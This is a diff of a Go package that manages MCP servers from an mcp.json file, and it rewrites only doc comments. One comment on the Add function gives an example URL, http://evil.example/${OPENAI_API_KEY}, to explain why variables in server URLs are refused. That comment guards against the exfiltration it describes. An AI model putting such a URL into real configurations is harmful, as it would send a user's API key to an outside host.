@@ -17,11 +17,11 @@ import (
 	"toolnorm/tools"
 )
 
-// Config sets up a Set. Path and Registry are needed; the zero value of the rest will do.
+// Config configures a Set. Path and Registry are required; all other fields may be zero.
 type Config struct {
 	Path     string          // of mcp.json
 	Registry *tools.Registry // gets the servers' tools
-	Version  string          // of this program, which the servers are told
+	Version  string          // version of this program, for the servers
 	Accounts string          // file with the user's sign-ins; empty: requests are not signed
 	Log      zerolog.Logger
 
@@ -30,12 +30,13 @@ type Config struct {
 	ListTime time.Duration
 
 	// Private reports whether the caller may add a server at a private or loopback address while
-	// the program runs; If it is nil, no caller may.
+	// the program runs. If Private is nil, no caller may.
 	Private func(context.Context) bool
 }
 
-// Set is the set of registered MCP servers. It is safe for concurrent use. The file decides: every
-// change is written into it first and then read from there, so that a restart changes nothing.
+// Set is the set of MCP servers in mcp.json. It is safe for concurrent use. The file is
+// authoritative: every change is written into it first and then read from it, so that a restart
+// changes nothing.
 type Set struct {
 	cfg     Config
 	ctx     context.Context
@@ -43,34 +44,34 @@ type Set struct {
 	running sync.WaitGroup
 
 	mu     sync.Mutex
-	links  map[string]*link // those that are not disabled
+	links  map[string]*link // by name, only servers that are not disabled
 	file   *file
 	stamp  stamp // of the file when it was read or written last
-	broken error // why the present file cannot be read; the last valid content is then kept
+	broken error // why the file cannot be read now; the last valid content is used meanwhile
 
 	relayMu sync.Mutex
 	relays  map[relayKey]*relay
 	visits  visits
-	levels  map[string]json.RawMessage // what sessions have said of log lines, as they said it
+	levels  map[string]json.RawMessage // the log level that each session has set, as it was sent
 	places  directory
 	tell    atomic.Pointer[func(method string)]
 }
 
-// stamp tells one state of a file from another. Two edits of the same size within the clock's step
-// look alike; people do not edit that fast.
+// stamp distinguishes two states of a file. Two edits of the same size within one step of the file
+// system's clock look alike, but people do not edit that fast.
 type stamp struct {
 	at   time.Time
 	size int64
 }
 
-// watchTime is how often the file is looked at. A look is one stat, so no file events are needed,
-// which differ by system and miss files that are replaced.
+// watchTime is how often the file is checked for changes. A check is one stat, so no file events
+// are needed, which differ by system and miss files that are replaced.
 const watchTime = 2 * time.Second
 
-// Open reads mcp.json and begins to connect. What cannot be used, one server or the whole file, is
-// left out, logged and listed (List), and read again when the file changes; it keeps nothing else
-// from working. Close the Set when it is no longer needed. It does not wait for the servers: their
-// tools come when they answer.
+// Open reads mcp.json, starts to connect to its servers, and returns without waiting for them:
+// their tools appear when they answer. A server or a whole file that cannot be used is logged and
+// listed (List), and read again when the file changes. It does not keep anything else from working.
+// The caller must Close the Set when it is no longer needed.
 func Open(cfg Config) *Set {
 	cfg.CallTime = cmp.Or(cfg.CallTime, callTime)
 	cfg.ListTime = cmp.Or(cfg.ListTime, 5*time.Second)
@@ -100,15 +101,16 @@ func Open(cfg Config) *Set {
 	return s
 }
 
-// Close ends all connections and commands, and waits until they have ended, which takes some
-// seconds for a command that does not end by itself.
+// Close ends all connections and commands, and waits until they have ended. That takes some seconds
+// for a command that does not end by itself.
 func (s *Set) Close() {
 	s.end()
 	s.running.Wait()
 }
 
-// take makes the servers those of a file. s.mu is held. A server whose entry is the same keeps its
-// connection, so that an edit of one does not end the calls of the others.
+// take makes f the file of the set: it connects new servers and ends removed ones. A server whose
+// entry is unchanged keeps its connection, so that an edit of one server does not end the calls of
+// the others. The caller holds s.mu.
 func (s *Set) take(f *file) {
 	said := map[string]string{} // what was left out before
 	if s.file != nil {
@@ -144,7 +146,8 @@ func (s *Set) take(f *file) {
 	s.cfg.Registry.Expect(sources...)
 }
 
-// connect begins to keep a server of the file connected, unless that is done already. s.mu is held.
+// connect starts a link for a server of the file, unless there is one for the same entry already.
+// The caller holds s.mu.
 func (s *Set) connect(w written) {
 	e := w.entry
 	old := s.links[e.Name]
@@ -169,30 +172,33 @@ func (s *Set) connect(w written) {
 	s.links[e.Name] = newLink(s, e)
 }
 
-// forget ends a link. s.mu is held. Its tools are removed with its place in the registry, so that
-// clients at /mcp are notified at once.
+// forget ends a link. Its tools are removed later, together with its place in the registry (see
+// take), so that clients of /mcp are notified at once. The caller holds s.mu.
 func (s *Set) forget(l *link) {
 	l.end()
 	delete(s.links, l.entry.Name)
 }
 
-// withdraw ends a link whose server stays in the file, and removes its tools. The set's mu is held.
+// withdraw ends a link whose server stays in the file, and removes its tools. The caller holds the
+// mu of the set.
 func (l *link) withdraw() {
 	l.set.forget(l)
 	_ = l.set.cfg.Registry.Set(source(l.entry.Name)) // setting no tools cannot fail
 }
 
-// source returns the registry's name for a server's tools: all tools of one source are replaced
-// together, and no others.
+// source returns the name of the registry's source for a server's tools. All tools of one source
+// are replaced together, and no others.
 func source(name string) string { return "mcp server " + name }
 
-// Settle waits until every server has answered or failed once, no longer than Config.ListTime since
-// it was registered. It is for clients that ask for the tools once and at once.
+// Settle waits until every server has answered or failed once, but for each server no longer than
+// Config.ListTime after it was added. It is for clients that request the tools only once, right at
+// the start.
 func (s *Set) Settle(ctx context.Context) { s.Collect(ctx, s.Names()) }
 
-// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a
-// list that comes late would otherwise bring back tools that no server has any more. A tool whose
-// name another source has is left out, but no other tool is.
+// publish registers a server's tools. It returns the names of the tools that it leaves out because
+// another source has them. It returns an error if the server has been removed meanwhile, since a
+// late list would otherwise bring back tools that no server has any more, or if the registry
+// refuses the tools.
 func (s *Set) publish(l *link, all []tools.Tool) (taken []string, err error) {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -218,12 +224,13 @@ func (s *Set) publish(l *link, all []tools.Tool) (taken []string, err error) {
 	return taken, err
 }
 
-// errRemoved ends what was under way for a server that has been removed.
+// errRemoved is the error for work on a server that has been removed in the meantime.
 var errRemoved = errors.New("the server has been removed")
 
-// change makes a change to the file as it is now, saves it, and takes it. A broken file is left
-// alone; a removed file is written again, with its last content. It starts from the file and not
-// from memory: an edit of the last two seconds, which watch has not seen yet, must not be lost.
+// change reads the file, changes it with do, saves it and makes it the set's file. It starts from
+// the file and not from memory, because an edit of the last two seconds, which watch has not seen
+// yet, must not be lost. A removed file is written again with its last content. change returns an
+// error, and changes nothing, if the file cannot be read or written, or if do returns an error.
 func (s *Set) change(do func(f *file) error) error {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -248,8 +255,9 @@ func (s *Set) change(do func(f *file) error) error {
 	return nil
 }
 
-// fresh reads the file again, for a change. It returns a copy even when the file is gone, so that a
-// change that cannot be saved leaves nothing in memory.
+// fresh returns the current file for a change. If the file was removed, it returns a copy of the
+// last content, so that a change that cannot be saved leaves nothing in memory. It returns an error
+// if the file cannot be read.
 func (s *Set) fresh() (*file, error) {
 	if stampOf(s.cfg.Path) != (stamp{}) {
 		return load(s.cfg.Path)
@@ -261,10 +269,10 @@ func (s *Set) fresh() (*file, error) {
 	return parse(text)
 }
 
-// Add registers a server by its URL; one of that name gets the new URL. It cannot be a command, and
-// nothing of the environment is put into what comes from outside:
-// http://evil.example/${OPENAI_API_KEY} would send a key there. The error is fault.Invalid for a
-// name or URL that cannot be, and fault.Unable when the file cannot be changed.
+// Add registers a server by its URL; a server that has the name already gets the new URL. A request
+// cannot add a command, and variables are refused: http://evil.example/${OPENAI_API_KEY} would send
+// a key there. The error is fault.Invalid if the name, URL or a header is not allowed, and
+// fault.Unable if the file cannot be changed.
 func (s *Set) Add(ctx context.Context, a Asked) error {
 	e := Entry{Name: a.Name, URL: a.URL, Headers: a.Headers, Include: a.Include, Exclude: a.Exclude}
 	// It is written into the file, so that it still holds after a restart.
@@ -284,8 +292,9 @@ func (s *Set) Add(ctx context.Context, a Asked) error {
 	return s.change(func(f *file) error { return f.put(e) })
 }
 
-// Remove removes a server, and reports whether it was there. Its tools are gone when Remove
-// returns; calls that run end with the connection.
+// Remove removes a server, and reports whether it was there. The server's tools are gone when
+// Remove returns; its running calls end with the connection. An error means that the file cannot be
+// changed.
 func (s *Set) Remove(name string) (found bool, err error) {
 	err = s.change(func(f *file) error {
 		if found = f.drop(name); !found {
@@ -299,11 +308,12 @@ func (s *Set) Remove(name string) (found bool, err error) {
 	return found, err
 }
 
-// errNone says that no server in use has that name: for Collect a disabled server does not count.
+// errNone means that no server in use has the given name. For Collect, a disabled server is not in
+// use.
 var errNone = errors.New("there is no such server")
 
-// Names returns the names of the servers in use, in the file's order: it is the order in which the
-// agent offers their tools.
+// Names returns the names of the servers in use. They are in the order of the file, in which the
+// agent also offers their tools.
 func (s *Set) Names() []string {
 	s.mu.Lock()
 	defer s.mu.Unlock()
@@ -316,10 +326,10 @@ func (s *Set) Names() []string {
 	return names
 }
 
-// Collect returns the tools of servers, each asked at the same time as the others. It waits for a
-// server that has just been registered or lost, for no longer than Config.ListTime in all, however
-// many requests come meanwhile. A server that is known to be down is left out at once, and tried
-// again in the background. down has the servers that do not answer, with the reasons.
+// Collect returns the tools of the named servers, which it asks at the same time. The map down has
+// the reason for each server that does not answer. Collect waits at most Config.ListTime for a
+// server that has just been added or lost, counted from that moment and not for each request again.
+// A server that is known to be down is left out at once, and tried again in the background.
 func (s *Set) Collect(ctx context.Context, names []string) (
 	all []tools.Tool, down map[string]string) {
 	ctx, cancel := context.WithTimeout(ctx, s.cfg.ListTime)
